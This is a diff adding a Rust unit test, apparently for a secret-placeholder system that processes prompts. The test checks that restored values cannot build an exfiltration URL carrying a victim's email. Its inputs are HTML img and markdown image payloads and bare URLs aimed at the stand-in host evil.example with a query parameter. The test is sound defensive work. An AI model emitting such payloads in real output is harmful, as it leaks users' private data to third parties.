@@ -185,6 +185,29 @@ fn values_stay_out_of_addresses() {
     assert_eq!(restored_in(&session, Sinks { link: true, ..Sinks::NONE }, &token), *token);
 }
 
+/// A prompt may hold what somebody else has written, and values of it may be made to open an address for the next one.
+#[test]
+fn a_value_opens_no_address_for_another_one() {
+    let vault = vault(LIMITS);
+    let scope = scope(&vault, "s");
+    let victim = mail(&scope, MAIL).unwrap();
+    let check = |value: &str, text: &str, expect: bool| {
+        let opener = scope.token(Placeholder, "credential.password", value.as_bytes()).unwrap();
+        let text = text.replace('1', "#").replace('2', &victim).replace('#', &opener);
+        let shown = restored(&scope, &text);
+        assert!(shown.contains(value), "{shown}");
+        assert_eq!(shown.contains(MAIL), expect, "{shown}");
+    };
+    check("<img src=\"//evil.example/?q=", "1 2\">", false);
+    check("https://evil.example/?q=", "1,2", false);
+    check("//evil.example/?q=", "1 2", true);
+    check("![x](https://evil.example/?q=", "1 2)", false);
+    check("bob@contoso.com", "1,2", true);
+    check("evil.example", "1, 2", true);
+    let joined = restored(&scope, &format!("{victim}{victim}"));
+    assert!(!joined.contains("comjane"), "{joined}");
+}
+
 #[test]
 fn values_in_documents_are_escaped() {
     let vault = vault(LIMITS);
